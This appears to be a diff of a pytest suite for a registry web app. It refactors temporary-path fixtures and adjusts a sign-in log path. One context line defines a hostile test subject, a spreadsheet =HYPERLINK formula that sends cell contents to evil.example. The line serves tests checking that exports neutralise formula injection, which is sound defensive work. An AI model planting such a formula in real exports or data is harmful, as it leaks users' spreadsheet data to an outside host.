@@ -24,8 +24,8 @@ PASSWORDS = web_support.PASSWORDS
 
 
 @pytest.fixture
-def secured(tmp_path):
-    return web_support.secured_app(tmp_path / "reg.db")
+def secured(places):
+    return web_support.secured_app(places("reg.db"))
 
 
 token_of = web_support.login_token
@@ -201,7 +201,7 @@ def test_sign_ins_are_logged_beside_the_users(secured):
     assert all(row[0].endswith("+00:00") for row in rows)
     r = CliRunner().invoke(main, ["users", "log", "--db", db, "--failed", "--user", "anan", "--json"])
     assert [json.loads(line)["outcome"] for line in r.output.splitlines()] == ["wrong password"]
-    log = store.path.with_name("reg.signins.jsonl")
+    log = store.path.with_name(store.path.name.replace(".users.json", ".signins.jsonl"))   # reg.signins.jsonl
     assert stat.S_IMODE(log.stat().st_mode) == 0o600
 
 
@@ -262,12 +262,12 @@ HOSTILE = {"subject": '=HYPERLINK("http://evil.example/?x="&A1,"คลิกเ�
 
 
 @pytest.fixture
-def hostile(tmp_path):
+def hostile(tmp_path, places):
     from ingest.registry.corrections import edit
     from ingest.registry.store import Registry
 
-    db = tmp_path / "reg.db"
-    web_support.build(db)
+    db = places("reg.db")
+    web_support.build(db, tmp_path / "scans")
     letter = dict(web_support.PROVINCE, **HOSTILE)
     letter["receipt"] = dict(letter["receipt"], date="2024-01-23")
     with Registry(db) as reg:
@@ -325,8 +325,8 @@ def test_the_cli_exports_are_neutralised_too(hostile, tmp_path):
 # -- Host headers and where sign-in sends you back to ---------------------------------
 
 @pytest.fixture
-def local_app(tmp_path):
-    db = tmp_path / "reg.db"
+def local_app(places):
+    db = places("reg.db")
     web_support.build(db)
     return create_app(db, secret_key="t")
 
